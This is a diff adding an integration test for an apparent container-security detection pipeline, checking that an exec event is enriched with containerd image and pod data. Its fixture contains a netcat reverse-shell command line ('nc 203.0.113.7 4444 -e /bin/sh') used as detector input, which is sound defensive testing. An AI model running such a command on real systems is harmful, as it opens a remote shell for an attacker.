@@ -1,6 +1,12 @@
 import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { createDetector, defaultDetectConfig } from '../../src/detect/index.ts';
+import type { Finding } from '../../src/model/finding.ts';
+import { openPipeline } from '../../src/pipeline.ts';
+import { ProcessTable } from '../../src/state/process-table.ts';
+import { RecentExecs } from '../../src/state/recent.ts';
+import { silentLog } from '../../src/telemetry/log.ts';
 import { execIn, type Rig, rig, until } from '../support/enriching.ts';
 import { type RealContainerd, startContainerd } from '../support/real/containerd.ts';
 import { firstPidOf, missingFor, tellSkipped } from '../support/real/system.ts';
@@ -103,6 +109,47 @@ describe.runIf(reason === undefined)('a real containerd', () => {
     });
     expect(event.container!.age_secs).toBeGreaterThan(0);
     expect(event).not.toHaveProperty('unknown.image');
+  });
+
+  it('makes a finding that knows its image, and its place for a volume', async () => {
+    const { enricher } = await connected();
+    const findings: Finding[] = [];
+    const pipeline = openPipeline({
+      detector: createDetector(defaultDetectConfig()),
+      processes: new ProcessTable(),
+      recent: new RecentExecs(),
+      enrich: enricher.enrich,
+      route: () => ['test'],
+      accept: async (finding) => void findings.push(finding),
+      minSeverity: 'low',
+      log: silentLog,
+    });
+    pipeline.intake('tetragon').judge(
+      execIn(web.container.slice(0, 31), {
+        time: new Date().toISOString().replace('Z', '000000Z'),
+        process: {
+          binary: '/scratch/nc',
+          argv: ['/scratch/nc', '203.0.113.7', '4444', '-e', '/bin/sh'],
+          argv_quality: 'exact',
+          argv0_known: false,
+          pid: 999_999,
+          in_init_tree: false,
+        },
+      }),
+    );
+    await pipeline.idle();
+    const out = process.env.LANNER_REAL_FINDING;
+    if (out !== undefined) writeFileSync(out, `${JSON.stringify(findings[0], null, 2)}\n`);
+    expect(findings).toHaveLength(1);
+    expect(findings[0]).toMatchObject({
+      severity: 'critical',
+      tool: 'netcat',
+      exec: { image: { reference: real.reference }, container: { name: 'web' }, pod: { namespace: 'shop' } },
+    });
+    expect(findings[0]!.indicators.map((one) => one.id)).toEqual(
+      expect.arrayContaining(['exec_on_socket', 'loc_writable']),
+    );
+    expect(findings[0]!.title).toContain(real.reference);
   });
 
   it("knows the container's own first process by its pid", async () => {
